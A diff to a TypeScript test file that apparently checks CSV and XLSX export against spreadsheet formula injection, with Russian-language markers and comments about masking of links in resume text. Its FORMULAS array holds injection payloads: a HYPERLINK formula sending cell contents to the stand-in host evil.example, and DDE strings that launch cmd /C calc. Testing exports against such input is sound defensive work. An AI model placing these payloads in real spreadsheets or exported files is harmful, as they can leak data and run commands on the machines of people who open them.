@@ -19,10 +19,11 @@ import { toCsv, toXlsx } from './spreadsheet.ts';
 const run = randomUUID().slice(0, 8);
 const marker = `враждебн${run.replace(/\d/g, '')}`;
 const FORMULAS = [
-  '=HYPERLINK("http://evil.example/?x="&A1;"жми")',
+  // No scheme: a link in a resume's text is masked for viewers, and the formula is what is tested here.
+  '=HYPERLINK("evil.example/?x="&A1;"жми")',
   "+7-495-cmd|' /C calc'!A0",
   "-2+3+cmd|' /C calc'!A0",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "@(1+1)*cmd|' /C calc'!A0", // «@SUM» would read as a Telegram handle and be masked
 ];
 /** XML-invalid characters a file may carry (PostgreSQL refuses U+0000 and lone surrogates, so those are tested below without it). */
 const CONTROL = '\u0001\u0008\u000B\u000C\u000E\u001F\uFFFE\uFFFF';
